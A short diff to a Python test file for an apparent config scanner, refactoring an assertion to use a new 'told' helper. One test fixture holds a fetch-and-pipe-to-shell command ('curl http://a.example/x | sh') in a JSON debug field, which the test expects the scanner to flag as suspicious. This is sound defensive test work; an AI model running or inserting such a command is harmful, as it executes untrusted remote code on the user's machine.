@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from inspect_samples import look
+from inspect_samples import look, told
 
 from watchword.inspect.facts import Verdict
 
@@ -10,7 +10,7 @@ from watchword.inspect.facts import Verdict
 def test_a_command_that_fetches_and_runs_is_told() -> None:
     """What the address gives would be run by a shell."""
     data = b'{"debug_command": "curl http://a.example/x | sh"}'
-    assert ("config-command", Verdict.SUSPICIOUS) in {(f.rule, f.verdict) for f in look(data, "x.json").findings}
+    assert ("config-command", Verdict.SUSPICIOUS) in told(data, "x.json")
 
 
 def test_a_command_that_starts_a_server_is_silent() -> None:
